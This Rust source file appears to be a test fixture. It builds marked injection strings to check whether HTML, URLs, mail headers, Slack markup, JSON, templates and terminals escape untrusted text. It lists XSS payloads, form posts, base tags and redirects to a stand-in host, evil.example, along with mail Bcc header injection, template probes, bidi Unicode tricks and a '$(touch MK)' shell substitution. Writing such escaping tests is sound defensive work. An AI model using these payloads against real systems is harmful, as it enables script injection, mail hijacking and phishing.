//! Texts with a special meaning in HTML, URLs, mail headers, the markup of Slack or Teams, JSON,
//! templates or terminals. Each text begins with its own mark. In a text with HTML, the name of an
//! element or of an attribute also contains the mark. If a page does not escape the text, a test
//! finds the mark in such a name.

/// Returns the mark of the text with this number. All marks have the same number of digits, so that
/// no mark is part of another.
pub fn mark(number: usize) -> String {
    format!("mk{number:03}q")
}

/// Returns the text with this number. The text is the same in every run.
pub fn hostile_text(number: usize) -> String {
    let mark = mark(number);
    let (shape, turn) = (number % SHAPES.len(), number / SHAPES.len());
    let body = SHAPES[shape].replace("MK", &mark);
    let body = match turn % 9 {
        0 => body,
        1 => body.to_uppercase(),
        2 => format!("\"'>{body}"),
        3 => format!("{body}{body}"),
        4 => format!("</pre></textarea></title></script>{body}"),
        5 => format!("{body}{}", "x".repeat(2000)),
        6 => format!("\r\n\r\n{body}"),
        7 => format!("\u{202e}{body}\u{2066}"),
        _ => format!("`\"'{body}'\"`"),
    };
    format!("{mark} {body}")
}

const SHAPES: [&str; 56] = [
    // HTML elements
    "<script MK>alert(1)</script>",
    "<img MK src=x onerror=alert(1)>",
    "<svg/MK/onload=alert(1)>",
    "</td></table></p></div></form><MK>",
    "<iframe MK srcdoc=\"<MK>\"></iframe>",
    "<style MK>*{display:none}</style>",
    "<form MK action=https://evil.example><button name=decision value=approve>Approve</button>",
    "<base MK href=//evil.example>",
    "<meta MK http-equiv=refresh content=\"0;url=//evil.example\">",
    "--><MK><!--",
    "<![CDATA[<MK>]]>",
    "<a MK href=\"javascript:alert(1)\">Review</a>",
    "<math><mtext><MK>",
    "<\u{0}script MK>",
    "<MK",
    "<input MK autofocus onfocus=alert(1)>",
    // HTML attributes
    "\" MK=\"1",
    "' MK='1",
    "\" onmouseover=\"alert(1)\" MK=\"",
    "\"><MK a=\"",
    "` MK=`1",
    "\\\" MK=\\\"",
    "= MK /MK",
    "\"\t\n\u{c}MK\n=\n\"",
    // URLs
    "javascript:alert('MK')",
    "data:text/html,<MK>",
    "//evil.example/MK",
    "https://evil.example/MK?a=\"><MK>&b='MK'",
    "/resume/../../MK#<MK>",
    // HTML entities
    "&lt;MK&gt;",
    "&#60;MK&#62;&#x3c;MK&#x3e;",
    "&amp;lt;MK&amp;gt;",
    "&quot; MK=&quot;",
    "&NewLine;&Tab;&ltMK",
    // invisible, control, combining and fullwidth characters
    "\u{202e}MK\u{202c}\u{202d}\u{2067}\u{2069}",
    "\u{200b}\u{feff}\u{2060}MK\u{ad}\u{180e}",
    "\u{7}\u{8}\u{1b}[31mMK\u{9b}2J",
    "\u{85}\u{2028}\u{2029}MK\u{b}",
    "\u{e0041}\u{e0042}MK\u{fffe}\u{ffff}",
    "e\u{301}\u{301}\u{301}\u{301}MK\u{5d0}\u{5d1}1\u{660}",
    "\u{ff1c}MK\u{ff1e}\u{ff02}",
    // Slack and Markdown
    "<!channel> <@U012AB3CD> <https://evil.example/MK|Review>",
    "*MK* _it_ ~gone~ `code`\n> quote\n:rotating_light:",
    "[Review](https://evil.example/MK) ![](https://evil.example/MK.png)",
    "# MK\n\n- [ ] <https://evil.example/MK>\n\n[a]: https://evil.example",
    "```\n<MK>\n```",
    // headers of a mail
    "\r\nBcc: MK@evil.example\r\n\r\n<MK>",
    "\nX-MK: 1\n",
    "\r\n.\r\nMAIL FROM:<MK@evil.example>\r\n",
    "=?utf-8?Q?=0D=0ABcc:_MK@evil.example?=%0d%0aSet-Cookie: MK",
    // JSON and templates
    "\"}}],\"blocks\":[],\"MK\":\"",
    "\\u003cMK\\u003e\\ud800\\\"",
    "{{7*7}} ${7*7} <%= MK %> #{MK} {% raw %}",
    "{amount} {order} {note} {tools} {agent} {count} MK",
    "$(touch MK) `MK` ; MK --",
    "]]></MK>",
];
